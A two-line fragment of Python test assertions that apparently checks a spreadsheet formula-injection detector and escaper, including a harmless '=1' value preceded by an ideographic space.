    assert not _may_be_formula(safe) and escape_formulas(pd.DataFrame({"c": safe}))["c"] is not None
    assert _may_be_formula(pd.Series(["ok", "\u3000=1"], dtype="str"))
